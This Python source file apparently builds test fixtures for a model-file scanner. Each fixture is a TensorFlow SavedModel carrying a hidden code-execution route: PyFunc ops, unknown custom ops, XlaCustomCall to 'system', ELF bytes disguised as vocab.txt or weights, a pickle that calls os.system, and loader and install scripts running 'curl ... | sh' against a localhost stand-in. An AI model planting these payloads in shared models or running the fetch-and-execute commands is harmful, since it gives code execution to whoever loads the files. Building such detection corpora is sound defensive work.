"""SavedModels that run code of another kind: Python functions, unknown operations, opaque programs, programs lying beside."""

from __future__ import annotations

import struct

import tensorflow as tf

from .build import FLOATS, Func, by_hand, const, definition, dense, export, node
from .registry import Place, attack, fires


def _py(id, op, about, value=None, **more):
    def build(place: Place):
        attrs = {"token": "pyfunc_0", "Tin": [tf.float32], "Tout": [tf.float32]}
        if op == "EagerPyFunc":
            attrs["is_async"] = False
        by_hand(place.path, [node("y", op, ["x"], **attrs)])

    build.__doc__ = about
    attack(id, "savedmodel", "code-execution", op, value, **more)(build)


_py(
    "sm-py-func",
    "PyFunc",
    "PyFunc calls whatever Python function the host registered as pyfunc_0.",
    "pyfunc_0",
    fires=fires("call", "writes", "out/pyfunc", hosts="pyfunc"),
)
_py(
    "sm-py-func-stateless",
    "PyFuncStateless",
    "The stateless form.",
    fires=fires("call", "writes", "out/pyfunc", hosts="pyfunc"),
)
_py("sm-eager-py-func", "EagerPyFunc", "tf.py_function.")


@attack("sm-py-func-real", "savedmodel", "code-execution", ["EagerPyFunc", "PyFunc"], None)
def _(place: Place):
    """tf.numpy_function and tf.py_function as an author leaves them in by mistake."""

    def serve(x):
        a = tf.numpy_function(lambda v: v, [x], tf.float32)
        b = tf.py_function(lambda v: v, [x], tf.float32)
        return {"y": a + b}

    export(place.path, serve, FLOATS)


@attack("sm-py-func-in-map", "savedmodel", "code-execution", ["EagerPyFunc", "PyFunc"], None)
def _(place: Place):
    """tf.numpy_function in the function of a dataset, in a function that is called twice."""
    inner = tf.function(
        lambda: (
            tf.data.Dataset.range(3)
            .map(lambda i: tf.numpy_function(lambda v: v, [i], tf.int64))
            .reduce(tf.constant(0, tf.int64), lambda a, b: a + b)
        )
    )
    dense(place.path, lambda x, y: {"z": inner() + inner()})


@attack("sm-py-func-main-op", "savedmodel", "code-execution", "PyFunc", None, trigger="load")
def _(place: Place):
    """PyFunc as the init operation."""
    nodes = [
        const("c", 1.0),
        node("start", "PyFunc", ["c"], token="pyfunc_3", Tin=[tf.float32], Tout=[tf.float32]),
        node("y", "Identity", ["x"], T=tf.float32),
    ]
    by_hand(place.path, nodes, init="start")


@attack("sm-custom-op", "savedmodel", "custom-op", "StealTensors", also=["code-execution"])
def _(place: Place):
    """An operation that no TensorFlow has: it needs a shared library, which the model's author brings."""
    by_hand(place.path, [node("y", "StealTensors", ["x"], T=tf.float32)])


@attack(
    "sm-custom-op-in-function", "savedmodel", "custom-op", "ZzTop>Decode", also=["code-execution"]
)
def _(place: Place):
    """The same in a function, with a name in a namespace."""
    inner = definition(lambda x: tf.identity(x), tf.TensorSpec(None, tf.float32), name="decode")
    inner[0].node_def[0].op = "ZzTop>Decode"
    by_hand(
        place.path,
        [
            node(
                "y", "PartitionedCall", ["x"], Tin=[tf.float32], Tout=[tf.float32], f=Func("decode")
            )
        ],
        functions=inner,
    )


@attack(
    "sm-custom-op-with-library",
    "savedmodel",
    "payload",
    ["libdecode.so", ".so", "ELF"],
    also=["custom-op", "code-execution"],
    trigger="none",
)
def _(place: Place):
    """The library lies in the model's folder, to be loaded by whoever follows the README."""
    by_hand(place.path, [node("y", "Identity", ["x"], T=tf.float32)])
    (place.path / "assets.extra").mkdir()
    (place.path / "assets.extra" / "libdecode.so").write_bytes(_elf())


def _elf() -> bytes:
    """A small but whole header of an ELF shared library for x86-64, and its code."""
    header = (
        b"\x7fELF\x02\x01\x01"
        + bytes(9)
        + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0x1000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    )
    program = struct.pack("<IIQQQQQQ", 1, 5, 0, 0, 0, 0x2000, 0x2000, 0x1000)
    return header + program + b"\x48\x31\xc0\xb0\x3b\x0f\x05" * 300


@attack(
    "sm-python-beside",
    "savedmodel",
    "payload",
    ["setup.py", "loader.py"],
    also=["code-execution"],
    trigger="none",
)
def _(place: Place):
    """A Python file lies beside the model and starts a shell when it is imported."""
    by_hand(place.path, [node("y", "Identity", ["x"], T=tf.float32)])
    (place.path / "loader.py").write_text(
        "import os, subprocess\nsubprocess.Popen(['sh', '-c', 'curl http://127.0.0.1:18431/x | sh'])\n"
    )


@attack(
    "sm-elf-asset",
    "savedmodel",
    "payload",
    ["vocab.txt", "ELF"],
    also=["code-execution"],
    trigger="none",
)
def _(place: Place):
    """An asset with the name of a vocabulary is an ELF program."""
    by_hand(place.path, [node("y", "Identity", ["x"], T=tf.float32)])
    (place.path / "assets").mkdir()
    (place.path / "assets" / "vocab.txt").write_bytes(_elf())


@attack(
    "sm-pickle-asset",
    "savedmodel",
    "payload",
    ["labels.bin", "pickle"],
    also=["code-execution"],
    trigger="none",
)
def _(place: Place):
    """An asset is a pickle that runs a command for whoever unpickles it."""
    by_hand(place.path, [node("y", "Identity", ["x"], T=tf.float32)])
    (place.path / "assets.extra").mkdir()
    (place.path / "assets.extra" / "labels.bin").write_bytes(_pickle())


def _pickle() -> bytes:
    import os
    import pickle

    class Run:
        def __reduce__(self):
            return os.system, ("touch /tmp/airlock-canary/out/pickle",)

    return pickle.dumps({"labels": ["a", "b"], "run": Run()}, protocol=4)


@attack(
    "sm-script-asset",
    "savedmodel",
    "payload",
    ["install", "shebang", "shell"],
    also=["code-execution"],
    trigger="none",
)
def _(place: Place):
    """A shell script among the assets."""
    by_hand(place.path, [node("y", "Identity", ["x"], T=tf.float32)])
    (place.path / "assets.extra").mkdir()
    (place.path / "assets.extra" / "install").write_text(
        "#!/bin/sh\ncurl -s http://127.0.0.1:18431/x | sh\n"
    )


@attack(
    "sm-elf-in-weights",
    "savedmodel",
    "payload",
    ["ELF", "executable"],
    also=["weights", "code-execution"],
    trigger="none",
)
def _(place: Place):
    """A program in the bytes of a variable."""
    import numpy as np

    held = tf.Variable(np.frombuffer(_elf(), np.uint8))
    export(place.path, lambda x: {"y": x + tf.cast(held[0], tf.float32)}, FLOATS, extra=held)


@attack(
    "sm-elf-in-const",
    "savedmodel",
    "payload",
    ["ELF", "executable"],
    also=["weights", "code-execution"],
    trigger="none",
)
def _(place: Place):
    """A program in a string constant, which WriteFile could put anywhere."""
    nodes = [
        const("blob", _elf()),
        node("length", "StringLength", ["blob"]),
        node("y", "Cast", ["length"], SrcT=tf.int32, DstT=tf.float32),
    ]
    by_hand(place.path, nodes, ("y", tf.float32, []))


@attack("sm-xla-custom-call", "savedmodel", "code-execution", "XlaCustomCallV2", ["evil_target"])
def _(place: Place):
    """XlaCustomCallV2 names a native function of the process."""
    call = node(
        "y",
        "XlaCustomCallV2",
        ["x"],
        call_target_name="evil_target",
        backend_config="",
        has_side_effect=True,
        operand_dtypes=[tf.float32],
        result_dtypes=[tf.float32],
    )
    call.attr["result_shapes"].list.shape.add().dim.add(size=4)
    by_hand(place.path, [call])


@attack("sm-xla-custom-call-v1", "savedmodel", "code-execution", "XlaCustomCall", ["system"])
def _(place: Place):
    """The older form of the same."""
    call = node(
        "y",
        "XlaCustomCall",
        ["x"],
        target_name="system",
        backend_config="id",
        T=[tf.float32],
        dtype=tf.float32,
        shape=tf.TensorShape([4]),
    )
    by_hand(place.path, [call])


@attack("sm-mlir-passthrough", "savedmodel", "code-execution", "MlirPassthroughOp")
def _(place: Place):
    """A program in MLIR as an attribute."""
    call = node(
        "y",
        "MlirPassthroughOp",
        ["x"],
        mlir_module="module { func.func @main() { return } }",
        Tinputs=[tf.float32],
        Toutputs=[tf.float32],
    )
    by_hand(place.path, [call])


@attack("sm-xla-host-compute", "savedmodel", "code-execution", "XlaHostCompute", also=["network"])
def _(place: Place):
    """XlaHostCompute sends tensors to a program on the host."""
    call = node(
        "y",
        "XlaHostCompute",
        ["x"],
        Tinputs=[tf.float32],
        Toutputs=[tf.float32],
        key="k",
        shape_inference_graph=Func("none"),
    )
    for key in ("ancestors", "shapes"):
        call.attr[key].list.SetInParent()
    by_hand(place.path, [call])


@attack(
    "sm-xla-call-module",
    "savedmodel",
    "code-execution",
    ["XlaCallModule", "evil_target"],
    also=["custom-op"],
)
def _(place: Place):
    """StableHLO whose text names a native function as its custom call."""
    text = b"module { func.func @main(%a: tensor<4xf32>) -> tensor<4xf32> { %0 = stablehlo.custom_call @evil_target(%a) : (tensor<4xf32>) -> tensor<4xf32> return %0 : tensor<4xf32> } }"
    call = node(
        "y",
        "XlaCallModule",
        ["x"],
        version=5,
        module=text,
        Sout=[tf.TensorShape([4])],
        Tout=[tf.float32],
        Tin=[tf.float32],
    )
    by_hand(place.path, [call])
